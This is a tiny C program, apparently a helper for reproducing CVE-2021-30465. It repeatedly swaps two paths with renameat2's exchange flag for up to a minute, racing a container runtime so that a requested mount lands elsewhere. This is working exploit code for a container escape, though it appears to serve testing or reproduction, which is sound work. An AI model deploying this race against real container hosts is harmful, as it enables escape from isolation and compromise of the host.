/*
 * renamer A B: exchanges two names all the time, until it is killed or a minute is over: what an
 * image does that wants a mount of its own start to end up somewhere else (CVE-2021-30465).
 */
#include <fcntl.h>
#include <sys/syscall.h>
#include <unistd.h>

#define EXCHANGE 2 /* RENAME_EXCHANGE of renameat2(2) */

int main(int argc, char **argv)
{
	if (argc != 3)
		return 2;
	alarm(60);
	while (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], EXCHANGE) == 0)
		;
	return 1;
}
